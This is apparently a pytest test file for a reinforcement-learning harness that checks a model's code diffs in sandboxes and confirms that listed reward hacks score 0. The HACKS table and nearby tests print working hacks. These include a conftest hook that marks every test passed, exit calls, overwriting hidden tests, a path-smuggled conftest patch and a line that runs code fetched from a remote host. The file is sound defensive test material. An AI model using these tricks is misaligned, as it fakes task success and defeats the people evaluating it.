"""Repository tasks through real sandboxes: the SWE tool set in a held workspace, verification of the final diff in
a fresh sandbox, and the reward hacks of issue 26, each of which must score 0 (and the honest fix 1)."""

import subprocess
from concurrent.futures import ThreadPoolExecutor

import pytest

from tests.support.repository import (
    CONTEXT_GOLD_PATCH,
    FILES,
    FIXED,
    GOLD_PATCH,
    RANGES,
    REPOSITORY_IMAGE,
    diff_of,
    repository_instance,
)
from tests.support.resources import require
from workers.definitions.specs import RepositoryTests, SessionSettings
from workers.rl.rollout.sessions import workspace_for
from workers.rl.rollout.swe_tools import SweLimits, SweToolSet
from workers.rl.rollout.tools import PolicyToolError
from workers.sandbox import SandboxPool
from workers.sandbox.layers import DEFAULT_ROOT, LayerCache
from workers.sandbox.process import ProcessBackend
from workers.sandbox.zygote import file_diff
from workers.verifiers import Context, Item, Outcome, Sample
from workers.verifiers.repository import (
    BINARY,
    DIFF_FILE,
    directory_files,
    evaluate_patch,
    repository_tests_check,
    snapshot_contents,
    snapshot_files,
    verified_diff,
)

pytestmark = pytest.mark.sandbox

FIX = FIXED


@pytest.fixture(scope="module")
def pool():
    """Over the machine's own layer cache (as the studio's pools are): the image's pytest layer is built once per
    machine, not once per test module."""
    require("sandbox")
    pool = SandboxPool(ProcessBackend(layers=LayerCache(DEFAULT_ROOT)))
    pool.warm(REPOSITORY_IMAGE)
    yield pool
    pool.close()


@pytest.fixture(scope="module")
def instance():
    return repository_instance()


def check(pool, instance, diff: str, timeout: float = 30) -> Outcome:
    item = Item(key=instance["key"], inputs=instance["inputs"], hidden=instance["hidden"])
    return repository_tests_check(RepositoryTests(type="repository_tests", timeout_seconds=timeout),
                                  Sample(response="", files={DIFF_FILE: diff.encode()}), item,
                                  Context(pool=pool, image=REPOSITORY_IMAGE))


def score(pool, instance, diff: str, timeout: float = 30) -> float | None:
    return check(pool, instance, diff, timeout).value


SESSION = SessionSettings(idle_timeout=60, lifetime=300, max_calls=200)


def open_session(pool, instance):
    item = Item(key=instance["key"], inputs=instance["inputs"], hidden=instance["hidden"])
    return pool.open_session(REPOSITORY_IMAGE, SESSION, workspace=workspace_for(item))


@pytest.fixture
def workspace(pool, instance):
    with open_session(pool, instance) as session:
        yield SweToolSet(session, limits=SweLimits(call_output_chars=2000, trajectory_output_chars=50_000))


# --- verification ----------------------------------------------------------------------------------------------

def test_the_gold_patch_scores_1_and_no_patch_scores_0(pool, instance):
    gold = evaluate_patch(pool, REPOSITORY_IMAGE, inputs=instance["inputs"], hidden=instance["hidden"],
                          diff=GOLD_PATCH, timeout=30)
    assert (gold.reason, gold.reward) == ("pass", 1.0)
    assert gold.results == {"tests/test_hidden.py::test_inclusive_range": "passed",
                            "tests/test_ranges.py::test_total": "passed",
                            "tests/test_ranges.py::test_largest": "passed"}
    empty = evaluate_patch(pool, REPOSITORY_IMAGE, inputs=instance["inputs"], hidden=instance["hidden"], diff="",
                           timeout=30)
    assert (empty.reason, empty.reward, empty.failing) == ("test_failed", 0.0,
                                                           ["tests/test_hidden.py::test_inclusive_range"])


def test_a_diff_that_does_not_apply_and_a_broken_pass_to_pass_score_0(pool, instance):
    stale = GOLD_PATCH.replace("def inclusive_range(a, b):", "def inclusive_range(start, stop):")
    assert score(pool, instance, stale) == 0.0
    breaks_total = diff_of({"calc/ranges.py": FIX.replace("return sum(values)", "return sum(values) + 1")})
    outcome = evaluate_patch(pool, REPOSITORY_IMAGE, inputs=instance["inputs"], hidden=instance["hidden"],
                             diff=breaks_total, timeout=30)
    assert (outcome.reason, outcome.failing) == ("test_failed", ["tests/test_ranges.py::test_total"])


def test_test_files_and_pytest_steering_files_never_reach_verification():
    diff = diff_of({"calc/ranges.py": FIX, "tests/test_ranges.py": None, "conftest.py": "x = 1\n",
                    "pyproject.toml": "[tool.pytest.ini_options]\n", "calc/test_extra.py": "",
                    "hidden.pth": "import os\n"})
    kept, left_out = verified_diff(diff, {"tests/test_hidden.py"})
    assert [str(part) for part in left_out] == [
        "calc/test_extra.py (a test file)", "conftest.py (steers pytest or the interpreter)",
        "hidden.pth (steers pytest or the interpreter)", "pyproject.toml (steers pytest or the interpreter)",
        "tests/test_ranges.py (a test file)"]
    assert "calc/ranges.py" in kept and "conftest" not in kept


def test_a_path_holding_newlines_cannot_smuggle_a_patch_of_a_steering_file_past_the_check():
    # The workspace's diff writes a path as it is: folders named with newlines put a complete second patch (a
    # calc/ranges.py section the header regex reads, then a conftest.py patch) into the diff's text.
    smuggled = ("q b/q\ndiff --git a/calc/ranges.py b/calc/ranges.py\n--- a/calc/ranges.py\n+++ b/calc/ranges.py\n"
                "@@ -1 +1 @@\n-x\n+x\n--- a/conftest.py\n+++ b/conftest.py\n@@ -1 +1,2 @@\n x\n+HACKED = 1\nz")
    regular = type("Stat", (), {"st_mode": 0o100644})
    honest = diff_of({"calc/ranges.py": FIX})
    kept, left_out = verified_diff(honest + file_diff(smuggled, None, regular, b"", b"hi\n"), {"tests/test_hidden.py"})
    # Each section is judged by the file git apply would patch with it: the conftest.py patch is left out
    # wherever it hides, the honest section stays whole (the decoy -x/+x sections are kept and would not apply).
    assert "HACKED" not in kept and kept.startswith(honest)
    assert "conftest.py (steers pytest or the interpreter)" in map(str, left_out)
    assert "q (a diff header with no change under it)" in map(str, left_out)


def test_a_plain_unified_diff_is_read_as_git_apply_reads_it(tmp_path):
    # No `diff --git` lines: diff -u's forms, with old/ new/ folders or a bare name (git apply's -p1, or -p0 when a
    # name has no folder), /dev/null or diff -N's epoch stamp for a created or deleted file, timestamps after a
    # tab, svn's Index: lines, empty context lines and a last newline stripped, as datasets store patches.
    plain = ("Index: calc/ranges.py\n===================================================================\n"
             "--- old/calc/ranges.py\t2024-05-02 10:00:00.000000000 +0000\n"
             "+++ new/calc/ranges.py\t2024-05-02 10:05:00.000000000 +0000\n"
             "@@ -3,4 +3,4 @@\n-    return list(range(a, b))\n+    return list(range(a, b + 1))\n"
             "\n\n def total(values):\n"
             "--- NOTES\t1970-01-01 00:00:00.000000000 +0000\n+++ NOTES\t2024-05-02 10:05:00.000000000 +0000\n"
             "@@ -0,0 +1 @@\n+n\n"
             "--- a/tests/test_ranges.py\n+++ b/tests/test_ranges.py\n@@ -1 +1 @@\n"
             "-from calc.ranges import largest, total\n+total = largest = None\n"
             "Binary files a/logo.png and b/logo.png differ\n"
             "--- a/README.md\n+++ /dev/null\n@@ -1 +0,0 @@\n-# calc")
    kept, left_out = verified_diff(plain, set())
    assert [str(part) for part in left_out] == ["tests/test_ranges.py (a test file)", f"logo.png ({BINARY})"]
    for name, content in FILES.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(content)
    git = subprocess.run(["git", "apply", "--numstat", "--summary", "-"], cwd=tmp_path, input=kept, text=True,
                         capture_output=True, check=True)
    assert git.stdout.split("\n") == ["1\t1\tcalc/ranges.py", "1\t0\tNOTES", "0\t1\tREADME.md",
                                      " create mode 100644 NOTES", " delete mode 100644 README.md", ""]
    subprocess.run(["git", "apply", "-"], cwd=tmp_path, input=kept, text=True, check=True)
    assert (tmp_path / "calc/ranges.py").read_text() == FIX and (tmp_path / "NOTES").read_text() == "n\n"
    assert not (tmp_path / "README.md").exists()


def test_a_diff_with_nothing_verification_can_apply_scores_0_and_says_so(instance):
    # A context diff (diff -c), which git apply does not read: reported as such, not as tests that failed, and
    # no sandbox is needed (there is none here) to know that the base alone fails.
    outcome = evaluate_patch(None, REPOSITORY_IMAGE, inputs=instance["inputs"], hidden=instance["hidden"],
                             diff=CONTEXT_GOLD_PATCH, timeout=30)
    assert (outcome.reason, outcome.reward) == ("nothing_to_apply", 0.0)
    assert outcome.summary.startswith("left out of the diff: lines 1-11 (not part of any file's diff: '*** calc/")


# --- reward hacks: each scores 0 -------------------------------------------------------------------------------

PASS_EVERYTHING = '''import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
'''

HACKS = {
    "a conftest.py that reports every test as passed": {"conftest.py": PASS_EVERYTHING},
    "a conftest.py in the tests' folder": {"tests/conftest.py": PASS_EVERYTHING},
    "a pytest plugin named in pytest.ini": {"pytest.ini": "[pytest]\naddopts = -p passing_plugin\n",
                                            "passing_plugin.py": PASS_EVERYTHING},
    "a pytest plugin named in pyproject.toml": {
        "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p passing_plugin"\n',
        "passing_plugin.py": PASS_EVERYTHING},
    "writing the hidden test's file first": {
        "tests/test_hidden.py": "def test_inclusive_range():\n    assert True\n"},
    "editing and deleting the visible tests": {"tests/test_ranges.py": None,
                                               "tests/test_other.py": "def test_total():\n    pass\n"},
    "sys.exit(0) in the code under test": {"calc/ranges.py": "import sys\nsys.exit(0)\n" + RANGES},
    "os._exit(0) in the code under test": {"calc/ranges.py": "import os\nos._exit(0)\n" + RANGES},
    "a sitecustomize.py that exits": {"sitecustomize.py": "import os\nos._exit(0)\n",
                                      "calc/sitecustomize.py": "import os\nos._exit(0)\n"},
    "a syntax error that makes the failing test vanish": {"calc/ranges.py": RANGES + "\ndef broken(:\n"},
    "reading the answer from the network": {"calc/ranges.py": (
        "import urllib.request\nexec(urllib.request.urlopen('http://1.1.1.1/fix.py', timeout=2).read())\n" + RANGES)},
}


@pytest.fixture(scope="module")
def hack_outcomes(pool, instance):
    """Every hack verified once, a few at a time (each is a fresh sandbox and a pytest start)."""
    with ThreadPoolExecutor(max_workers=3) as threads:
        return dict(zip(HACKS, threads.map(lambda hack: check(pool, instance, diff_of(HACKS[hack])), HACKS),
                        strict=True))


@pytest.mark.parametrize("hack", HACKS)
def test_reward_hack_scores_0(hack_outcomes, hack):
    assert hack_outcomes[hack].value == 0.0


def test_the_evidence_names_what_verification_left_out_of_the_models_diff(hack_outcomes):
    assert hack_outcomes["writing the hidden test's file first"].evidence == (
        "nothing_to_apply: left out of the diff: tests/test_hidden.py (a file of the hidden tests)\n"
        "nothing of the diff is left for verification to apply")
    assert hack_outcomes["a pytest plugin named in pytest.ini"].evidence.startswith(
        "test_failed: left out of the diff: pytest.ini (steers pytest or the interpreter)\n1 test(s) without a pass")


def test_the_honest_fix_with_the_same_machinery_scores_1(pool, instance):
    # The hacks above fail for their trick, not for a broken harness: the honest fix through diff_of passes.
    assert score(pool, instance, diff_of({"calc/ranges.py": FIX})) == 1.0


def test_sleeping_past_the_verifiers_timeout_scores_0(pool, instance):
    sleeper = diff_of({"calc/ranges.py": "import time\ntime.sleep(60)\n" + FIX})
    outcome = evaluate_patch(pool, REPOSITORY_IMAGE, inputs=instance["inputs"], hidden=instance["hidden"],
                             diff=sleeper, timeout=2)
    assert (outcome.reason, outcome.reward) == ("timeout", 0.0)


def test_the_workspace_holds_no_hidden_test_no_history_and_no_network(workspace):
    peek = workspace.call("bash", {"command": "grep -rl test_inclusive_range /sandbox /tmp /image; "
                                              "find / -name .git -not -path '/proc/*' 2>/dev/null | wc -l"})
    assert peek.text == "exit code 0\n0\n"  # no hidden test anywhere; no version control that could hold a fix
    network = workspace.call("bash", {"command": "python -c \"import socket; socket.create_connection(("
                                                 "'1.1.1.1', 53), timeout=2)\""})
    assert network.exit_code != 0 and "OSError" in network.text


def test_writing_outside_the_workspace_changes_nothing_verification_sees(pool, instance, workspace):
    wrote = workspace.call("bash", {"command": "mkdir -p /tmp/calc && cp -r calc /tmp/ && "
                                              "sed -i 's/, b))/, b + 1))/' /tmp/calc/ranges.py && "
                                              "echo x > /image/site/sitecustomize.py; echo x > /usr/lib/x.py; "
                                              "ls /tmp/calc"})
    assert "Read-only file system" in wrote.text and "ranges.py" in wrote.text
    assert wrote.workspace_diff == ""
    assert score(pool, instance, workspace.call("submit", {}).workspace_diff) == 0.0


def test_a_snapshot_leaves_version_control_and_caches_out(tmp_path):
    for name, content in {**FILES, ".git/refs/heads/fix": b"abc", "calc/__pycache__/r.pyc": b"\0",
                          ".pytest_cache/v": b""}.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(content)
    snapshot = snapshot_files(directory_files(tmp_path))
    assert sorted(snapshot_contents(snapshot)) == sorted(FILES)
    assert snapshot == snapshot_files(dict(reversed(FILES.items())))  # deterministic: the same task hash


# --- the tool set ----------------------------------------------------------------------------------------------

def test_editor_commands_and_the_diff_after_each_step(workspace):
    view = workspace.call("str_replace_editor", {"command": "view", "path": "calc/ranges.py", "view_range": [3, 3]})
    assert view.text == "     3\t    return list(range(a, b))" and view.workspace_diff == ""
    ambiguous = workspace.call("str_replace_editor", {"command": "str_replace", "path": "calc/ranges.py",
                                                      "old_str": "range(a, b)", "new_str": "x"})
    assert ambiguous.status == "error" and "appears 2 times" in ambiguous.text
    absent = workspace.call("str_replace_editor", {"command": "str_replace", "path": "calc/ranges.py",
                                                   "old_str": "nowhere", "new_str": "x"})
    assert absent.status == "error" and "does not appear verbatim" in absent.text
    edited = workspace.call("str_replace_editor", {"command": "str_replace", "path": "/sandbox/calc/ranges.py",
                                                   "old_str": "list(range(a, b))", "new_str": "list(range(a, b + 1))"})
    assert "+    return list(range(a, b + 1))" in edited.workspace_diff
    inserted = workspace.call("str_replace_editor", {"command": "insert", "path": "calc/ranges.py", "insert_line": 0,
                                                     "new_str": "# fixed"})
    assert "+# fixed" in inserted.workspace_diff
    undone = workspace.call("str_replace_editor", {"command": "undo_edit", "path": "calc/ranges.py"})
    assert "+# fixed" not in undone.workspace_diff and "range(a, b + 1)" in undone.workspace_diff
    created = workspace.call("str_replace_editor", {"command": "create", "path": "calc/notes.txt",
                                                    "file_text": "n\n"})
    assert "new file mode" in created.workspace_diff
    again = workspace.call("str_replace_editor", {"command": "create", "path": "calc/notes.txt", "file_text": "m"})
    assert again.status == "error" and "already exists" in again.text
    outside = workspace.call("str_replace_editor", {"command": "view", "path": "/etc/passwd"})
    assert outside.status == "error" and "outside the repository" in outside.text
    with pytest.raises(PolicyToolError):
        workspace.call("str_replace_editor", {"command": "delete", "path": "calc/ranges.py"})


def test_bash_output_is_cut_in_the_middle_and_a_timeout_is_reported(workspace):
    long = workspace.call("bash", {"command": "seq 1 20000"})
    assert long.text.startswith("exit code 0\n1\n2\n") and long.text.rstrip().endswith("19999\n20000")
    assert "characters of output elided" in long.text and len(long.text) < 2300
    slow = workspace.call("bash", {"command": "sleep 30", "timeout": 1})
    assert slow.exit_code == 124 and "ran past its timeout of 1 s" in slow.text


def test_the_trajectory_output_budget_is_kept_apart_from_the_per_call_cut(pool, instance):
    with open_session(pool, instance) as session:
        tools = SweToolSet(session, limits=SweLimits(call_output_chars=1000, trajectory_output_chars=2500))
        texts = [tools.call("bash", {"command": "seq 1 5000"}).text for _ in range(4)]
    assert len(texts[0]) < 1100 and len(texts[1]) < 1100
    assert "budget ends here" in texts[2] and "budget is spent" in texts[3]
